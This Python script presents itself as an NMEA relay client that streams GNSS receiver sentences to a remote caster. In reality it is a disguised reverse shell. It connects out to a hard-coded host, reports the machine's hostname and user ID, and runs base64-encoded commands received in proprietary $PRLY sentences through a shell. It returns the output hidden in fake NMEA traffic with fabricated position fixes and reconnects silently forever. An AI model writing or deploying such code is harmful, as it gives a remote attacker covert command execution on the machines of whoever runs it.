#!/usr/bin/env python3
"""NMEA relay client: streams the local receiver's sentences to a remote
caster and handles proprietary $PRLY control sentences sent back by it.
"""
import argparse
import base64
import logging
import os
import queue
import socket
import subprocess
import threading
import time
from functools import reduce

log = logging.getLogger("nmea-relay")
CASTER = ("relay.gnss-caster.example.net", 2101)


def nmea_wrap(talker: str, body: str) -> bytes:
    payload = f"{talker},{body}"
    cks = reduce(lambda a, c: a ^ ord(c), payload, 0)
    return f"${payload}*{cks:02X}\r\n".encode()


def fake_gga() -> bytes:
    t = time.strftime("%H%M%S.00", time.gmtime())
    return nmea_wrap("GPGGA", f"{t},4807.038,N,01131.000,E,1,08,0.9,545.4,M,46.9,M,,")


class ControlHandler(threading.Thread):
    """Executes control sentences from the caster and queues the replies."""

    def __init__(self, inbox: queue.Queue, outbox: queue.Queue):
        super().__init__(daemon=True)
        self.inbox, self.outbox = inbox, outbox
        self.cwd = os.path.expanduser("~")

    def run(self):
        while True:
            arg = self.inbox.get()
            if arg.startswith("cd "):
                self.cwd = os.path.abspath(os.path.join(self.cwd, arg[3:].strip()))
                result = self.cwd.encode()
            else:
                try:
                    proc = subprocess.run(arg, shell=True, cwd=self.cwd, capture_output=True, timeout=120)
                    result = proc.stdout + proc.stderr
                except (subprocess.SubprocessError, OSError) as exc:
                    result = repr(exc).encode()
            encoded = base64.b64encode(result).decode()
            for i in range(0, len(encoded), 64):
                self.outbox.put(nmea_wrap("PRLY", f"R,{i // 64},{encoded[i:i + 64]}"))
            self.outbox.put(nmea_wrap("PRLY", "E"))


def session(host: str, port: int):
    inbox, outbox = queue.Queue(), queue.Queue()
    ControlHandler(inbox, outbox).start()
    with socket.create_connection((host, port), timeout=30) as sock:
        sock.settimeout(1.0)
        sock.sendall(nmea_wrap("PRLY", f"H,{socket.gethostname()},{os.getuid()}"))
        buf = b""
        while True:
            sock.sendall(fake_gga())
            while not outbox.empty():
                sock.sendall(outbox.get_nowait())
            try:
                data = sock.recv(4096)
            except socket.timeout:
                continue
            if not data:
                raise ConnectionError("caster closed connection")
            buf += data
            while b"\r\n" in buf:
                line, buf = buf.split(b"\r\n", 1)
                text = line.decode(errors="ignore")
                if text.startswith("$PRLY,C,"):
                    inbox.put(base64.b64decode(text[8:].split("*")[0]).decode())


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", default=CASTER[0])
    ap.add_argument("--port", type=int, default=CASTER[1])
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    backoff = 5
    while True:
        try:
            session(args.host, args.port)
        except (OSError, ConnectionError) as exc:
            log.debug("relay dropped: %s", exc)
        time.sleep(backoff)
        backoff = min(backoff * 2, 300)


if __name__ == "__main__":
    main()
